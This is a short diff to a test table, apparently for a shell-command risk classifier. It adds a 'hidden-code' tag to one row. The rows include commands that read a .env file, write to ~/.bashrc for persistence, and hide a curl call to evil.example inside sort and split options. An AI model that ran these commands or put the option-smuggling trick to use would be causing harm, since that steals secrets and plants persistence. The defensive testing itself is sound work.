@@ -9,7 +9,7 @@ const ROWS: readonly (readonly [command: string, kinds: string])[] = [
   ["cat .env", "credential-read"],
   ["tail -f app.log", ""],
   ["sort -o ~/.bashrc x", "persistence"],
-  ["sort --compress-program 'curl http://evil.example' x", "network"],
+  ["sort --compress-program 'curl http://evil.example' x", "network hidden-code"],
   ["sort -k2 -n data.csv", ""],
   ["split --filter 'curl http://evil.example' big", "network"],
   ["tee ~/.bashrc", "persistence"],
